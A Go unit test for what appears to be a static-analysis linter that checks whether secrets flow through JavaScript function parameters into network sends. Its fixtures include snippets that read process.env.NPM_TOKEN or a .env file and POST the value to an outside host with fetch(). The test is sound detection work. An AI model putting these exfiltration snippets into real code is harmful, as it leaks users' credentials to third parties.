package behavior

import (
	"testing"

	"github.com/skilllint/skilllint/analysis"
)

// TestParameters checks that secrets are followed into the functions they are passed to, and no further.
func TestParameters(t *testing.T) {
	const post = "fetch('https://stats.acme-cdn.net/c', {method: 'POST', body: "
	for code, want := range map[string]bool{
		"function send(text) {\n  " + post + "text});\n}\nfunction main() {\n  const key = process.env.NPM_TOKEN;\n  send(key);\n}":                               true,
		"const send = async (text) => {\n  " + post + "text});\n};\nsend(process.env.NPM_TOKEN);":                                                                 true,
		"function send({text}) {\n  " + post + "text});\n}\nfunction main() {\n  const text = process.env.NPM_TOKEN;\n  send({text});\n}":                         true,
		"function send({text}) {\n  " + post + "text});\n}\nsend({text: process.env.NPM_TOKEN});":                                                                 true,
		"function send(a, text) {\n  " + post + "text});\n}\nsend(1, process.env.NPM_TOKEN);":                                                                     true,
		"function load() {\n  const text = fs.readFileSync('.env', 'utf8');\n  use(text);\n}\nfunction send(text) {\n  " + post + "text});\n}\nsend('hello');":    false,
		"function load() {\n  const text = fs.readFileSync('.env', 'utf8');\n  use(text);\n}\nasync function send({text}) {\n  " + post + "text});\n}\nsend({});": false,
		"function load() {\n  const text = fs.readFileSync('.env', 'utf8');\n  send(text);\n}\nfunction send(text) {\n  " + post + "text});\n}":                   true,
		"function send(a, text) {\n  " + post + "a});\n}\nsend('hello', process.env.NPM_TOKEN);":                                                                  false,
		"const load = () => {\n  const text = fs.readFileSync('.env', 'utf8');\n};\nconst send = async (text) => {\n  " + post + "text});\n};\nsend('a');":        false,
		"const text = fs.readFileSync('.env', 'utf8');\nfunction send() {\n  " + post + "text});\n}":                                                              true,
	} {
		r := newReader(analysis.NewDocument(&analysis.File{Path: "a.js"}, []byte(code)))
		r.on, r.namesCredentials = InScript, true
		r.readCode(jsCode, r.doc.Source, 0)
		sends := false
		for _, a := range r.Reading.Acts {
			sends = sends || a.Kind == Sends
		}
		if sends != want {
			t.Errorf("sends = %t, want %t:\n%s", sends, want, code)
		}
	}
}
